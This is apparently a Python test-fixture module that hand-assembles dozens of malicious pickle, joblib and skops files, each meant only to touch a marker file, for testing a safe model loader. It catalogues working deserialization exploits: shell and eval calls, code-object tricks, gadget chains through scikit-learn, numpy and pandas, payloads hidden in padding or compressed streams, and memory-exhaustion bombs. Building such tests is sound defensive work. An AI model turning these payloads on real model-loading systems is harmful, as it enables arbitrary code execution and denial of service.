"""Files that would harm who loads them; all that each does is to touch the file ``marker``.

Written by hand, opcode by opcode, where no pickler would write it. `Attack.fires` says that an ordinary
load touches the marker: a test proves it, so that nobody takes comfort in blocking what is harmless.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import types
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import joblib
import lz4.frame
import numpy as np
from sklearn.linear_model import LinearRegression
from sklearn.preprocessing import FunctionTransformer


@attrs.frozen
class Attack:
    """One file: its bytes for a marker's path, its suffix, and whether ``joblib.load`` runs it.

    What ``exhausts`` memory is not loaded by any test.
    """

    name: str
    make: Callable[[Path], bytes]
    suffix: str = ".pkl"
    fires: bool = True
    exhausts: bool = False


# --- a small assembler -----------------------------------------------------------------


def name(path: str) -> bytes:
    module, _, attribute = path.partition(":")
    return f"c{module}\n{attribute}\n".encode()


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def many(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(path: str, *arguments: bytes) -> bytes:
    return name(path) + many(*arguments) + b"R"


def whole(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def touch(marker: Path) -> bytes:
    return call("os:system", text(f"touch {marker}"))


class Evil:
    """Pickles as a call of what it was given."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def _system(marker: Path) -> Evil:
    import os

    return Evil(os.system, f"touch {marker}")


# --- what can be called ----------------------------------------------------------------


def _callables() -> list[Attack]:
    source = "open({!r}, 'w').close()"

    def shell(path: str, *more: bytes) -> Callable[[Path], bytes]:
        return lambda marker: whole(call(path, text(f"touch {marker}"), *more))

    def python(path: str, *more: bytes) -> Callable[[Path], bytes]:
        return lambda marker: whole(call(path, text(source.format(str(marker))), *more))

    def on_path(path: str, *more: bytes) -> Callable[[Path], bytes]:
        return lambda marker: whole(call(path, text(str(marker)), *more))

    listed = lambda marker: b"(" + text("touch") + text(str(marker)) + b"l"  # noqa: E731
    return [
        Attack("os.system", shell("os:system")),
        Attack("posix.system", shell("posix:system")),
        Attack("os.popen", lambda m: whole(call("os:popen", text(f"touch {m}")) + b"0N")),
        Attack("subprocess.call", lambda m: whole(call("subprocess:call", listed(m)))),
        Attack("subprocess.check_output", lambda m: whole(call("subprocess:check_output", listed(m)))),
        Attack("subprocess.getoutput", shell("subprocess:getoutput")),
        Attack("subprocess.Popen", lambda m: whole(call("subprocess:Popen", listed(m)))),
        Attack("builtins.eval", lambda m: whole(call("builtins:eval", text(f"open({str(m)!r}, 'w')")))),
        Attack("builtins.exec", python("builtins:exec")),
        Attack("builtins.open", on_path("builtins:open", text("w"))),
        Attack("io.open", on_path("io:open", text("w"))),
        Attack("codecs.open", on_path("codecs:open", text("w"))),
        Attack("timeit.timeit", lambda m: whole(call("timeit:timeit", text("pass"), text(source.format(str(m)))))),
        Attack("code.interact", lambda m: whole(call("code:interact", text("hello"))), fires=False),
        Attack("code.InteractiveInterpreter", _interpreter),
        Attack("importlib.import_module", on_path("importlib:import_module"), fires=False),
        Attack("logging.config.fileConfig", on_path("logging.config:fileConfig"), fires=False),
        Attack("pip.main", lambda m: whole(call("pip:main", listed(m))), fires=False),
        Attack("ctypes.CDLL", on_path("ctypes:CDLL"), fires=False),
        Attack("webbrowser.open", on_path("webbrowser:open"), fires=False),
        Attack("shutil.copyfile", lambda m: whole(call("shutil:copyfile", text("/dev/null"), text(str(m))))),
        Attack("os.mkdir", on_path("os:mkdir")),
        Attack("pathlib", _pathlib),
        Attack("numpy.memmap", lambda m: whole(call("numpy:memmap", text(str(m)), text("uint8"), text("w+"), b"K\0", b"K\1"))),
        Attack("numpy.savetxt", lambda m: whole(call("numpy:savetxt", text(str(m)), b"(K\1l"))),
        Attack("numpy.save", lambda m: whole(call("numpy:save", text(f"{m}.npy"), b"(K\1l")), fires=False),
        Attack("numpy.load", on_path("numpy:load"), fires=False),
        Attack("numpy.ctypeslib.load_library", on_path("numpy.ctypeslib:load_library", text("/")), fires=False),
        Attack("numpy.fromfile", on_path("numpy:fromfile"), fires=False),
        Attack("numpy's old runner", python("numpy.testing._private.utils:runstring", b"}")),
        Attack("joblib.load", on_path("joblib:load"), fires=False),
        Attack("pandas.read_pickle", on_path("pandas:read_pickle"), fires=False),
        Attack("pandas.eval", lambda m: whole(call("pandas:eval", text(f"@open({str(m)!r}, 'w')"))), fires=False),
        Attack("a pickle in a pickle", lambda m: whole(call("_pickle:loads", _bytes(whole(touch(m)))))),
        Attack("a pickle in a pickle in a pickle", _thrice),
        Attack("marshal", _marshalled),
        Attack("multiprocessing's own", lambda m: whole(call("multiprocessing.util:spawnv_passfds", text("/"), b")", b")")), fires=False),
        Attack("a dataset's fetch", on_path("sklearn.datasets:fetch_file"), fires=False),
        Attack("joblib's shelf", on_path("joblib.numpy_pickle:_unpickle"), fires=False),
    ]  # fmt: skip


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _interpreter(marker: Path) -> bytes:
    made = call("code:InteractiveInterpreter")
    run = call("builtins:getattr", made, text("runsource"))
    return whole(run + many(text(f"open({str(marker)!r}, 'w')")) + b"R")


def _pathlib(marker: Path) -> bytes:
    made = call("pathlib:PosixPath", text(str(marker)))
    return whole(name("pathlib:Path.touch") + many(made) + b"R")


def _thrice(marker: Path) -> bytes:
    inner = whole(call("pickle:loads", _bytes(whole(touch(marker)))))
    return whole(call("pickle:loads", _bytes(inner)))


def _marshalled(marker: Path) -> bytes:
    import marshal

    code = marshal.dumps(compile(f"open({str(marker)!r}, 'w')", "x", "exec"))
    made = call("types:FunctionType", call("marshal:loads", _bytes(code)), call("builtins:globals"))
    return whole(made + b")R")


# --- how a name is found and called ----------------------------------------------------


def _opcodes() -> list[Attack]:
    def instance(marker: Path) -> bytes:
        return b"(" + text(f"touch {marker}") + b"ios\nsystem\n."

    def old_object(marker: Path) -> bytes:
        return b"(" + name("os:system") + text(f"touch {marker}") + b"o."

    def stacked(marker: Path) -> bytes:
        return whole(text("os") + text("system") + b"\x93" + many(text(f"touch {marker}")) + b"R")

    def remembered(marker: Path) -> bytes:
        put = text("system") + b"\x94" + text("os") + b"\x94" + b"00"
        return whole(put + b"h\1h\0\x93" + many(text(f"touch {marker}")) + b"R")

    def overwritten(marker: Path) -> bytes:
        put = text("math") + b"q\0" + b"0" + text("os") + b"q\0" + b"0"
        return whole(put + b"h\0" + text("system") + b"\x93" + many(text(f"touch {marker}")) + b"R")

    def ascii_names(marker: Path) -> bytes:
        return whole(b"U\x02osU\x06system\x93" + many(text(f"touch {marker}")) + b"R")

    def new(marker: Path, code: bytes = b"\x81", more: bytes = b"") -> bytes:
        made = name("subprocess:Popen") + many(b"(" + text("touch") + text(str(marker)) + b"l") + more + code
        return whole(made)

    def popped(marker: Path) -> bytes:
        return whole(touch(marker) + b"0N")

    def below_a_mark(marker: Path) -> bytes:
        return whole(b"(" + touch(marker) + b"1N")

    def in_a_dict(marker: Path) -> bytes:
        return whole(b"}" + text("a") + touch(marker) + b"s")

    def chained(marker: Path) -> bytes:
        found = call("builtins:getattr", call("builtins:__import__", text("os")), text("system"))
        return whole(found + many(text(f"touch {marker}")) + b"R")

    def by_operator(marker: Path) -> bytes:
        getter = (
            call("operator:attrgetter", text("system"))
            + many(call("importlib:import_module", text("os")))
            + b"R"
        )
        return whole(getter + many(text(f"touch {marker}")) + b"R")

    def method(marker: Path) -> bytes:
        caller = call("operator:methodcaller", text("system"), text(f"touch {marker}"))
        return whole(caller + many(call("importlib:import_module", text("os"))) + b"R")

    def filled_in(marker: Path) -> bytes:
        return whole(call("functools:partial", name("os:system"), text(f"touch {marker}")) + b")R")

    def filled_in_later(marker: Path) -> bytes:
        state = many(name("os:system"), many(text(f"touch {marker}")), b"}", b"N")
        made = call("functools:partial", name("sklearn.utils.validation:check_array"))
        return whole(made + state + b"b)R")

    def mapped(marker: Path) -> bytes:
        lazy = call("builtins:map", name("os:system"), b"(" + text(f"touch {marker}") + b"l")
        return whole(call("builtins:list", lazy))

    def default(marker: Path) -> bytes:
        made = call(
            "collections:defaultdict", call("functools:partial", name("os:system"), text(f"touch {marker}"))
        )
        return whole(call("operator:getitem", made, b"K\1"))

    def dotted(module: str, path: str) -> Callable[[Path], bytes]:
        return lambda m: whole(text(module) + text(path) + b"\x93" + many(text(f"touch {m}")) + b"R")

    return [
        *(Attack(f"protocol {p}", lambda m, p=p: pickle.dumps(_system(m), p)) for p in range(6)),
        Attack("INST", instance),
        Attack("OBJ", old_object),
        Attack("STACK_GLOBAL", stacked),
        Attack("names from the memo", remembered),
        Attack("a memo entry that is overwritten", overwritten),
        Attack("names as old strings", ascii_names),
        Attack("NEWOBJ", new, fires=False),
        Attack("NEWOBJ_EX", lambda m: new(m, b"\x92", b"}"), fires=False),
        Attack("a result that is dropped", popped),
        Attack("a result below a mark", below_a_mark),
        Attack("a result inside a dict", in_a_dict),
        Attack("getattr of __import__", chained),
        Attack("operator.attrgetter", by_operator),
        Attack("operator.methodcaller", method),
        Attack("functools.partial", filled_in),
        Attack("functools.partial with a new state", filled_in_later),
        Attack("map", mapped),
        Attack("defaultdict", default),
        Attack("a dotted name of scikit-learn", dotted("sklearn.datasets._base", "os.system")),
        Attack("a dotted name of joblib", dotted("joblib.parallel", "os.system")),
        Attack("a dotted name of numpy", dotted("numpy.lib._npyio_impl", "os.system")),
        Attack("a module inside a module", dotted("sklearn", "utils.validation.sp.sys.modules"), fires=False),
        Attack("an extension code", lambda m: whole(b"\x82\x01"), fires=False),
        Attack("a persistent id", lambda m: whole(text(str(m)) + b"Q"), fires=False),
        Attack("a persistent id as text", lambda m: b"P" + str(m).encode() + b"\n.", fires=False),
        Attack("a buffer outside", lambda m: whole(b"\x97", 5), fires=False),
        Attack("the old name of builtins", lambda m: whole(call("__builtin__:eval", text(f"open({str(m)!r}, 'w')")), 2)),
        Attack("the old name of subprocess", lambda m: whole(call("commands:getoutput", text(f"touch {m}")), 2)),
    ]  # fmt: skip


# --- admitted names, used as no model does ---------------------------------------------


def _gadgets() -> list[Attack]:
    line = "sklearn.linear_model._base:LinearRegression"
    state = lambda m, key: b"}" + text(key) + name("os:system") + b"s"  # noqa: E731

    def made(path: str) -> bytes:
        return name(path) + b")\x81"

    def distribution(marker: Path) -> bytes:
        template = f"open({str(marker)!r}, 'w')\n" + "".join(
            f"def {n}(*a): pass\n" for n in ("_parse_args", "_parse_args_stats", "_parse_args_rvs")
        )
        parts = b"}" + text("_parse_arg_template") + text(template) + b"s" + text("numargs") + b"K\0s"
        for key in ("moment_type", "a", "b", "xtol", "badvalue", "name", "shapes", "extradoc"):
            parts += text(key) + b"K\0s"
        return whole(made("scipy.stats._continuous_distns:norm_gen") + parts + b"b")

    def appended(marker: Path) -> bytes:
        filled = made(line) + state(marker, "append") + b"b"
        return whole(filled + text(f"touch {marker}") + b"a")

    def extended(marker: Path) -> bytes:
        parts = b"}" + text("extend") + call("functools:partial", name("os:system")) + b"s"
        return whole(made(line) + parts + b"b(" + text(f"touch {marker}") + b"e", 4)

    def state_twice(marker: Path) -> bytes:
        return whole(made(line) + state(marker, "__setstate__") + b"b" + text(f"touch {marker}") + b"b")

    def of_a_class(marker: Path) -> bytes:
        return whole(name(line) + state(marker, "predict") + b"b")

    def of_a_function(marker: Path) -> bytes:
        return whole(name("numpy:mean") + b"}" + text("__wrapped__") + b"Nsb")

    def generator(marker: Path) -> bytes:
        return whole(
            call("numpy.random._pickle:__generator_ctor", text(f"touch {marker}"), name("os:system"))
        )

    def index(marker: Path) -> bytes:
        arguments = b"}" + text("args") + b"(" + text("touch") + text(str(marker)) + b"l" + b"s"
        return whole(call("pandas.core.indexes.base:_new_Index", name("subprocess:Popen"), arguments))

    def instance(marker: Path) -> bytes:
        return whole(call("copyreg:_reconstructor", name("numpy:memmap"), name("builtins:object"), b"N"), 2)

    return [
        Attack("a distribution's source code", distribution),
        Attack("append as an attribute", appended),
        Attack("extend as an attribute", extended, fires=False),
        Attack("__setstate__ as an attribute", state_twice),
        Attack("a state for a class", of_a_class, fires=False),
        Attack("a state for a function", of_a_function, fires=False),
        Attack("a random generator of another function", generator),
        Attack("an index of another class", index, fires=False),
        Attack("an instance of another class", instance, fires=False),
        Attack("a function that is called later", lambda m: pickle.dumps(FunctionTransformer(_system(m).call[0])), fires=False),
        Attack("another function called", lambda m: whole(call("numpy:mean", b"(K\1l")), fires=False),
        Attack("an array with a size", _sized(10**12), fires=False, exhausts=True),
        Attack("a buffer with a size", lambda m: whole(call("builtins:bytearray", b"\x8a\x06" + (10**12).to_bytes(6, "little"))), fires=False, exhausts=True),
        Attack("objects that claim to be none", _forged_dtype, fires=False, exhausts=True),
        Attack("fewer objects than there are", _short_list, fires=False, exhausts=True),
        Attack("a type that only seems to be numpy's", lambda m: whole(call("numpy:dtype", text("O,O"), b"\x89", b"\x88")), fires=False),
        Attack("an encoding", lambda m: whole(call("_codecs:encode", text("a" * 9), text("zlib"))), fires=False),
    ]  # fmt: skip


def _sized(count: int) -> Callable[[Path], bytes]:
    size = b"\x8a\x06" + count.to_bytes(6, "little")
    return lambda m: whole(
        call("numpy._core.multiarray:_reconstruct", name("numpy:ndarray"), many(size), b"C\x01b")
    )


_EMPTY = call("numpy._core.multiarray:_reconstruct", name("numpy:ndarray"), many(b"K\0"), b"C\x01b")


def _dtype(flags: int) -> bytes:
    minus = b"J\xff\xff\xff\xff"
    state = many(b"K\3", text("|"), b"N", b"N", b"N", minus, minus, b"K" + bytes([flags]))
    return call("numpy:dtype", text("O8"), b"\x89", b"\x88") + state + b"b"


def _forged_dtype(marker: Path) -> bytes:
    content = _bytes(b"A" * 8)
    return whole(_EMPTY + many(b"K\1", many(b"K\1"), _dtype(0), b"\x89", content) + b"b")


def _short_list(marker: Path) -> bytes:
    return whole(_EMPTY + many(b"K\1", many(b"K\5"), _dtype(63), b"\x89", b"]") + b"b")


# --- where in a file -------------------------------------------------------------------


def _files() -> list[Attack]:
    def dumped(marker: Path, compress: Any) -> bytes:
        file = io.BytesIO()
        joblib.dump({"x": np.arange(5.0), "y": _system(marker)}, file, compress=compress)
        return file.getvalue()

    def nested(marker: Path) -> bytes:
        array = np.array([_system(marker), 1], dtype=object)
        file = io.BytesIO()
        joblib.dump(array, file)
        return file.getvalue()

    def deep(marker: Path) -> bytes:
        inner = np.empty(1, dtype=object)
        inner[0] = _system(marker)
        outer = np.empty(2, dtype=[("a", "f8"), ("b", "O")])
        outer["b"] = [inner, None]
        file = io.BytesIO()
        joblib.dump([outer], file, compress=("zlib", 3))
        return file.getvalue()

    def behind(marker: Path) -> bytes:
        return pickle.dumps(LinearRegression()) + whole(touch(marker))

    def in_front(marker: Path) -> bytes:
        return whole(touch(marker)) + pickle.dumps(LinearRegression())

    def in_the_padding(marker: Path) -> bytes:
        good = dumped(marker, 0)
        return good.replace(b"\xff", b".", 1)

    evil = lambda m: whole(touch(m))  # noqa: E731
    levels = ("zlib", "gzip", "bz2", "lzma", "xz", "lz4")
    packed = {
        "zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress,
        "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE), "lz4": lz4.frame.compress,
    }  # fmt: skip
    return [
        Attack("joblib, plain", lambda m: dumped(m, 0), ".joblib"),
        *(Attack(f"joblib, {level}", lambda m, c=level: dumped(m, (c, 3)), ".joblib") for level in levels),
        *(Attack(f"a pickle in {level}", lambda m, f=pack: f(evil(m)), ".joblib") for level, pack in packed.items()),
        Attack("an array of objects", lambda m: pickle.dumps(np.array([_system(m)], dtype=object))),
        Attack("joblib's array of objects", nested, ".joblib"),
        Attack("an array of objects in an array of structs", deep, ".joblib"),
        Attack("behind another pickle", behind, fires=False),
        Attack("in front of another pickle", in_front),
        Attack("behind a compressed pickle", lambda m: gzip.compress(pickle.dumps(1)) + gzip.compress(evil(m)), fires=False),
        Attack("behind a bz2", lambda m: bz2.compress(pickle.dumps(1)) + evil(m), fires=False),
        Attack("the padding of an array", in_the_padding, ".joblib"),
        Attack("joblib's old wrapper", _old_wrapper, ".joblib", fires=False),
        Attack("cloudpickle's functions", _lambda),
        Attack("a frame that lies", lambda m: b"\x80\x04\x95\x02\0\0\0\0\0\0\0" + touch(m) + b".", fires=False),
        Attack("a length beyond the file", lambda m: whole(b"\x8e" + (10**12).to_bytes(8, "little")), fires=False, exhausts=True),
        Attack("a memo that eats memory", lambda m: whole(b"Nr\xff\xff\xff\x7f"), fires=False, exhausts=True),
        Attack("an opcode that there is not", lambda m: whole(touch(m) + b"\xff"), fires=False),
        Attack("a decompression bomb", lambda m: zlib.compress(whole(_bytes(b"\0" * (80 << 20)))), ".joblib", fires=False),
    ]  # fmt: skip


def _old_wrapper(marker: Path) -> bytes:
    state = b"}" + text("filename") + text(str(marker)) + b"s"
    return whole(name("joblib.numpy_pickle_compat:NDArrayWrapper") + b")\x81" + state + b"b")


def _lambda(marker: Path) -> bytes:
    """Return a function as its code, as cloudpickle writes it, and call it."""
    code = compile(f"open({str(marker)!r}, 'w')", "x", "exec")
    made = name("types:CodeType") + pickle.dumps(_fields(code), 2)[2:-1] + b"R"
    return whole(name("types:FunctionType") + many(made, b"}") + b"R)R", 2)


def _fields(code: types.CodeType) -> tuple[Any, ...]:
    names = ("co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals", "co_stacksize", "co_flags", "co_code",
             "co_consts", "co_names", "co_varnames", "co_filename", "co_name", "co_qualname", "co_firstlineno",
             "co_linetable", "co_exceptiontable", "co_freevars", "co_cellvars")  # fmt: skip
    return tuple(getattr(code, field) for field in names)


# --- skops -----------------------------------------------------------------------------


def _skops() -> list[Attack]:
    def file(node: dict[str, Any]) -> Callable[[Path], bytes]:
        def make(marker: Path) -> bytes:
            data = io.BytesIO()
            with zipfile.ZipFile(data, "w") as archive:
                archive.writestr(
                    "schema.json", json.dumps({**node, "protocol": 2, "_skops_version": "0.16.0"})
                )
            return data.getvalue()

        return make

    def node(loader: str, path: str, content: Any) -> dict[str, Any]:
        module, _, attribute = path.partition(":")
        return {
            "__loader__": loader,
            "__module__": module,
            "__class__": attribute,
            "content": content,
            "__id__": 1,
        }

    listed = node("ListNode", "builtins:list", [])
    line = node("ObjectNode", "sklearn.linear_model._base:LinearRegression", None)
    nodes = {
        "a function": node("FunctionNode", "posix:system", None),
        "a type": node("TypeNode", "subprocess:Popen", None),
        "an object": node("ObjectNode", "code:InteractiveInterpreter", None),
        "a function inside": {**listed, "content": [node("FunctionNode", "posix:system", None)]},
        "operator.methodcaller": node("OperatorFuncNode", "operator:methodcaller", None),
        "a method": node(
            "MethodNode", "sklearn.linear_model._base:LinearRegression", {"obj": line, "func": "fit"}
        ),
        "a list that opens a file": node("ListNode", "numpy:memmap", []),
        "a constructor": node("ConstructorFromReduceNode", "builtins:bytearray", listed),
        "a loss of another class": {
            **node("LossNode", "numpy:memmap", listed),
            "__reduce__": {"args": listed},
        },
        "a node of no kind": node("MysteryNode", "builtins:list", []),
        "a node without a name": {"__loader__": "ListNode", "__class__": 3, "__module__": None},
    }
    return [Attack(f"skops: {key}", file(value), ".skops", fires=False) for key, value in nodes.items()]


def attacks() -> list[Attack]:
    """Return all of them."""
    return [*_callables(), *_opcodes(), *_gadgets(), *_files(), *_skops()]
